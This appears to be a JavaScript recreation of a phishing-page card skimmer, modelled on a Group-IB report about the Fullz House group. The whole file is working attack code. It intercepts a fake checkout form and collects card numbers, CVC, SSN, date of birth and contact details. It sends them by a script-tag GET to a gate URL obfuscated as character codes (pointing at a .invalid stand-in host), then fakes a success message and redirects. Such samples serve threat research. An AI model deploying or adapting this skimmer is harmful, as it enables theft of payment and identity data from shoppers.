// fullz-house (variant b), written from Group-IB, "Fullz House: When Phishing Meets Web
// Skimming" (2020): the group's phishing side - a page made to look like a payment
// processor's checkout asks for card and personal data, and a script on it sends each
// completed form to the gate, this time as a plain GET whose address is assembled from
// character codes (the gate is .invalid here), then forwards the victim to the real shop.
(function (d) {
  var gate = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 112, 97, 121, 109, 101, 110, 116, 45,
    103, 97, 116, 101, 119, 97, 121, 46, 105, 110, 118, 97, 108, 105, 100, 47, 103, 46, 112, 104, 112, 63);
  var form = d.querySelector("form#pay, form[action*=pay]");
  if (!form) return;
  form.addEventListener("submit", function (ev) {
    ev.preventDefault();
    var q = [];
    var fields = ["cardholder", "cardnumber", "expmonth", "expyear", "cvc", "dob", "ssn", "address", "zip", "email", "phone"];
    for (var i = 0; i < fields.length; i++) {
      var el = form.elements[fields[i]];
      if (el && el.value) q.push(fields[i] + "=" + encodeURIComponent(el.value));
    }
    q.push("ua=" + encodeURIComponent(navigator.userAgent));
    var s = d.createElement("script");
    s.src = gate + q.join("&");
    s.onload = s.onerror = function () {
      d.body.innerHTML = "<p style='font:16px sans-serif'>Payment processed. Redirecting...</p>";
      setTimeout(function () { location.replace(d.referrer || "/"); }, 1500);
    };
    d.head.appendChild(s);
  });
})(document);
